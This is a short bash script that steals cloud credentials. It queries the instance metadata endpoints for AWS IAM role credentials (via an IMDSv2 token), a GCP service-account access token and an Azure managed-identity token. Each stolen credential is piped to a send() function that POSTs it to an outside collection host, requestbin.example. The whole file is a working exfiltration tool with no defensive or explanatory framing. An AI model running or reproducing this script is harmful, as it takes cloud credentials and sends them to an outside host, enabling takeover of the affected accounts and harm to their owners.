#!/usr/bin/env bash
# cloud tokens from the metadata address, three providers
send() { curl -s -X POST --data-binary @- "https://requestbin.example/$1"; }
M=http://169.254.169.254
T=$(curl -s -X PUT $M/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')
R=$(curl -s -H "X-aws-ec2-metadata-token: $T" $M/latest/meta-data/iam/security-credentials/)
curl -s -H "X-aws-ec2-metadata-token: $T" "$M/latest/meta-data/iam/security-credentials/$R" | send aws
curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | send gcp
curl -s -H 'Metadata: true' "$M/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" | send az
